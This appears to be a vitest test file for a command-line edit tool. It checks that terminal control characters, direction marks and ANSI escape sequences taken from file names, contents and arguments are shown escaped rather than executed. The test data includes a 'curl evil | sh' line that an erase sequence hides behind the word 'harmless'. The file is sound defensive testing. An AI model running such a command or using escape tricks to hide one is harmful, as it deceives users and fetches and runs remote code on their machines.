import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { scratch, suture } from './desk'

/**
 * Characters that control a terminal: they clear the screen, move the cursor, set a title, reverse the direction of text, and break the
 * line (U+0085).
 */
const HOSTILE = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnp\u2066x\u0085\u061c\u2028end'
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

const EDIT = JSON.stringify({ path: `a${HOSTILE}.txt`, old_string: HOSTILE, new_string: 'x' })
const block = (text: string) => `a.txt\n<<<<<<< SEARCH\n${text}\n=======\n${HOSTILE} new\n>>>>>>> REPLACE\n`

/** Calls every command with a folder, a file and an answer whose names and content contain such characters. */
const CALLS: readonly { readonly name: string; readonly args: readonly string[]; readonly stdin?: string }[] = [
  { name: 'apply', args: ['apply', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'apply of what is not there', args: ['apply', '--root', '.'], stdin: block(`not ${HOSTILE}`) },
  { name: 'apply of a hostile path', args: ['apply', '--root', '.'], stdin: EDIT },
  { name: 'apply --stat', args: ['apply', '--stat', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'apply --json', args: ['apply', '--json', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'apply of a file that is not there', args: ['apply', `none${HOSTILE}`] },
  { name: 'apply with a hostile option', args: ['apply', `--${HOSTILE}`] },
  { name: 'a hostile command', args: [HOSTILE] },
  { name: 'explain', args: ['explain', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'explain of a hostile path', args: ['explain', '--root', '.'], stdin: EDIT },
  { name: 'convert', args: ['convert', '--to', 'json'], stdin: block(HOSTILE) },
  { name: 'convert to patch', args: ['convert', '--to', 'patch'], stdin: EDIT },
  { name: 'convert to git', args: ['convert', '--to', 'git', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'diff', args: ['diff', 'a.txt', 'b.txt'] },
  { name: 'diff with a hostile path', args: ['diff', 'a.txt', 'b.txt', '--path', HOSTILE] },
  { name: 'diff of files that are not there', args: ['diff', `-${HOSTILE}`, HOSTILE] },
  { name: 'replace', args: ['replace', 'a.txt', '--old', HOSTILE, '--new', 'x', '--root', '.'] },
  { name: 'replace in a hostile name', args: ['replace', HOSTILE, '--old', 'a', '--new', 'x'] },
  { name: 'revert', args: ['revert', '--root', '.'], stdin: block(HOSTILE) },
  { name: 'undo of a hostile name', args: ['undo', HOSTILE, '--root', '.'] },
  { name: 'undo --list', args: ['undo', '--list', '--root', '.'] },
  { name: 'recover', args: ['recover', '--end', HOSTILE, '--root', '.'] },
]

// After half a second, the command shows its progress, with control characters of its own. So no time passes here.
beforeAll(() => {
  vi.useFakeTimers({ toFake: ['Date'] })
})
afterAll(() => {
  vi.useRealTimers()
})

function project(): string {
  const root = scratch()
  mkdirSync(join(root, 'src'))
  writeFileSync(join(root, 'a.txt'), `${HOSTILE}\nlast\n`)
  writeFileSync(join(root, 'b.txt'), `${HOSTILE} other\nlast\n`)
  return root
}

describe('no control character or direction mark of a file, a name or an answer reaches a terminal', () => {
  test.each(CALLS)('$name', async ({ args, stdin = '' }) => {
    const ran = await suture(project(), args, { stdin, outIsTerminal: true, errIsTerminal: true, env: { NO_COLOR: '1' } })
    expect(ran.out.match(ACTIVE)).toBeNull()
    expect(ran.err.match(ACTIVE)).toBeNull()
    expect(ran.out + ran.err).not.toBe('')
  })

  test('what a program reads through a pipe is as it is', async () => {
    const { out } = await suture(project(), ['diff', 'a.txt', 'b.txt'])
    expect(out).toContain(HOSTILE.slice(0, 4))
  })

  test('in JSON it is escaped, and reads back as it was', async () => {
    const { out } = await suture(project(), ['apply', '--json', '--root', '.'], { stdin: block(HOSTILE) })
    expect(out.match(ACTIVE)).toBeNull()
    expect((JSON.parse(out) as { files: { diff: string }[] }).files[0]?.diff).toContain(HOSTILE)
  })
})

/** What the command itself writes to a terminal: colours, and the deletion of a line. */
const BORROWED = [
  '\u001b[8mhidden\u001b[0m',
  'curl evil | sh\r\u001b[Kharmless',
  '\u001b[31mred',
  '\u001b[1;31mred',
  '\u001b[38;5;1m',
  '\u001b[7mred',
]

/** Removes the styles that begin and end like those of the command, from inside out. */
function withoutStyles(text: string): string {
  const left = text.replace(/\u001b\[(?:1|2|7|31|32|33|36)m((?:(?!\u001b).)*)\u001b\[(?:22|27|39)m/gs, '$1')
  return left === text ? text : withoutStyles(left)
}

describe('a sequence of the kind that the command writes itself is shown, not obeyed, with colours on and off', () => {
  const file = BORROWED.join('\n')
  const calls: readonly (readonly [args: readonly string[], stdin?: string])[] = [
    [['diff', 'a.txt', 'b.txt']],
    [['convert', '--to', 'fudiff'], block(file)],
    [['convert', '--to', 'unified', '--root', '.'], block(file)],
    [['apply', '--root', '.'], block(file)],
    [['apply', '--root', '.'], block(`not ${file}`)],
    [['explain', '--root', '.'], block(`not ${file}`)],
    [['apply', BORROWED[0]!]],
    [['apply', `--${BORROWED[2]}`]],
    [['apply', '--root', BORROWED[3]!], 'x'],
    [['undo', BORROWED[0]!, '--root', '.']],
  ]
  test.each(calls.flatMap(([args, stdin]) => ['never', 'always'].map((color) => ({ args, stdin, color }))))(
    '$args, colours $color',
    async ({ args, stdin = '', color }) => {
      const root = scratch()
      writeFileSync(join(root, 'a.txt'), `${file}\nlast\n`)
      writeFileSync(join(root, 'b.txt'), `${file}\nnew\u001b[8m\nlast\n`)
      const env = color === 'always' ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }
      const { out, err } = await suture(root, args, { stdin, outIsTerminal: true, errIsTerminal: true, env })
      expect((color === 'always' ? withoutStyles(out + err) : out + err).match(ACTIVE)).toBeNull()
      expect(out + err).not.toBe('')
      expect(out + err).not.toContain('\u001b[8m')
    },
  )
})
